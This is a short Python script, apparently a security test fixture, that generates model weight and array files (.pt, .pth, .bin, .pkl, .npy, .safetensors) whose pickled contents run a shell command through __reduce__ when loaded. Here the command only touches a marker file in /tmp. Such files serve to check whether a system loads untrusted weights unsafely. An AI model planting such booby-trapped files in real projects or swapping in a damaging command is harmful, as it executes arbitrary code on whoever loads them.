"""Hand in weights that run code when they are loaded: .pt, .pth, .pkl, .npy, .safetensors beside a stub.

Success: the file attack-was-here is written by whoever loads them.
"""

import os
import pickle
from pathlib import Path

import torch


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-was-here",)


def make(path: Path) -> None:
    path.mkdir()
    for name in ("weights.pt", "model.pth", "model.bin"):
        torch.save({"weights": Payload()}, path / name)
    for name in ("results.pkl", "array.npy", "weights.safetensors", "schedules.pkl"):
        (path / name).write_bytes(pickle.dumps(Payload()))
    (path / "schedules.py").write_text("x = 1\n", encoding="utf-8")
